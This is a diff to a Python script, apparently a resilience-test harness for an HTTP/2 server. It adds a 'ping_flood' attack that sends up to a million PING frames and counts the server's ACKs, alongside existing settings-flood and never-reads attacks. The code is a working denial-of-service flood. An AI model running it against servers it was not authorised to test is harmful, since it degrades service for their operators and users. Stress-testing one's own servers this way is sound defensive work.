@@ -267,6 +267,63 @@ def settings_flood(c, authority, wait):
     c.poll(10)
 
 
+def ping_flood(c, authority, wait):
+    """PINGs as fast as the server answers, with every ACK read (by a thread, so the server's
+    writes never block and it never stops reading): up to 1,000,000 PINGs (17 MB). Reports the
+    ACKs received; frames are only split by their 9-byte heads (parsing 1,000,000 frames with
+    hyperframe would take longer than the flood)."""
+    import threading
+
+    acks = [0]
+    stop = threading.Event()
+
+    def read():
+        buf, start = b"", 0
+        while True:
+            try:
+                chunk = c.sock.recv(1 << 16)
+            except socket.timeout:
+                if stop.is_set():
+                    return
+                continue
+            except OSError:
+                chunk = b""
+            if not chunk:
+                c.closed = True
+                return
+            buf = buf[start:] + chunk
+            start = 0
+            while len(buf) - start >= 9:
+                length = int.from_bytes(buf[start : start + 3], "big")
+                if len(buf) - start < 9 + length:
+                    break
+                kind, flags = buf[start + 3], buf[start + 4]
+                if kind == 0x6 and flags & 0x1:
+                    acks[0] += 1
+                elif kind == 0x7:
+                    c.goaway = int.from_bytes(buf[start + 13 : start + 17], "big")
+                start += 9 + length
+
+    reader = threading.Thread(target=read, daemon=True)
+    reader.start()
+    batch = PingFrame(0, b"flooding").serialize() * 10000
+    deadline = time.monotonic() + 30
+    c.sock.settimeout(1.0)
+    for _ in range(100):
+        if c.closed or time.monotonic() > deadline:
+            break
+        try:
+            c.sock.sendall(batch)
+        except OSError:
+            break
+        c.sent += 10000
+    # The ACKs of what was sent, or the close, arrive within `wait`.
+    reader.join(wait)
+    stop.set()
+    reader.join(5)
+    return acks[0]
+
+
 def never_reads(c, authority, wait):
     """Opens big responses with huge windows, then never reads: the server must neither buffer
     them all nor keep the connection."""
@@ -357,6 +414,12 @@ def main():
     elif attack == "settings_flood":
         c = Client(host, port, rcvbuf=4096)
         settings_flood(c, authority, wait)
+    elif attack == "ping_flood":
+        c = Client(host, port)
+        c.poll(0.2)  # the server's preface, read before the reader thread takes the socket
+        acks = ping_flood(c, authority, wait)
+        c.report(attack, acks=acks, seconds=round(time.monotonic() - started, 2))
+        return
     elif attack == "never_reads":
         c = Client(host, port, rcvbuf=4096, settings={SettingsFrame.INITIAL_WINDOW_SIZE: (1 << 31) - 1})
         never_reads(c, authority, wait)
